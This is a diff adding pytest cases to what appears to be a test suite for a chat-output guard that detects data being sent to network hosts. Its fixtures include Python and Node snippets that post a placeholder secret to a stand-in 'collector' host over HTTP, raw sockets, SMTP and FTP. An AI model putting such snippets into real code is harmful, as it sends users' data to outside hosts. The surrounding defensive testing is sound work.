@@ -183,3 +183,37 @@ def test_an_upload_url_alone_is_not_inert(text: str) -> None:
     assert not inert(text)
     scheme = text.strip("`\n").split(":")[0]
     assert inert(text.replace(scheme + ":", "https:", 1))  # (the same URL of a web page is)
+
+
+# atk22a M2: a host literal under any public top-level name (or none) handed to a standard-library network client.
+TLDS = ["dev", "app", "page", "live", "link", "club", "pro", "win", "internal"]
+CLIENTS = ["import http.client\nc = http.client.HTTPSConnection(\"collector.{tld}\")\nc.request(\"POST\", \"/c\", "
+           "body=\"{E}\")",
+           "import socket\ns = socket.create_connection((\"collector.{tld}\", 443))\ns.sendall(b\"{E}\")",
+           "import smtplib\nsmtplib.SMTP(\"collector.{tld}\", 587).sendmail(\"a\", \"b\", \"{E}\")",
+           "import ftplib\nftp = ftplib.FTP(\"collector.{tld}\")\nmsg = \"{E}\"",
+           "const s = net.connect(443, 'collector.{tld}');\ns.write('{E}');"]
+NOT_HOSTS = ["open(\"setup.py\").write(\"{E}\")", "sqlite3.connect(\"app.db\").execute(q, (\"{E}\",))",
+             "load(\"config.dev\", \"{E}\")", "Path(\"README.md\").write_text(\"{E}\")",
+             "connect(\"notes.app\", \"{E}\")", "print(\"{E}\", \"done.win\")"]
+
+
+@pytest.mark.parametrize("size", (0, 5))
+@pytest.mark.parametrize("tld", TLDS)
+@pytest.mark.parametrize("case", range(len(CLIENTS)))
+async def test_a_host_handed_to_a_network_client_is_a_destination(guard: Any, case: int, tld: str, size: int) -> None:
+    text = "```python\n" + CLIENTS[case].format(tld=tld, E=E) + "\n```"
+    got, _ = await (whole_chat(guard, text, []) if not size else streamed_chat(guard, text, [], size))
+    assert got == text
+
+
+def test_a_bare_host_handed_to_a_host_only_client() -> None:
+    assert sends("ftplib.FTP(\"backup\")") and sends("http.client.HTTPConnection('backup')")
+    assert not sends("ftplib.FTP(host)") and not sends("print(\"backup\")")
+
+
+@pytest.mark.parametrize("case", range(len(NOT_HOSTS)))
+async def test_a_file_name_in_a_call_is_no_host(guard: Any, case: int) -> None:
+    text = "```python\n" + NOT_HOSTS[case].format(E=E) + "\n```"
+    got, _ = await whole_chat(guard, text, [])
+    assert got == text.replace(E, MAIL)
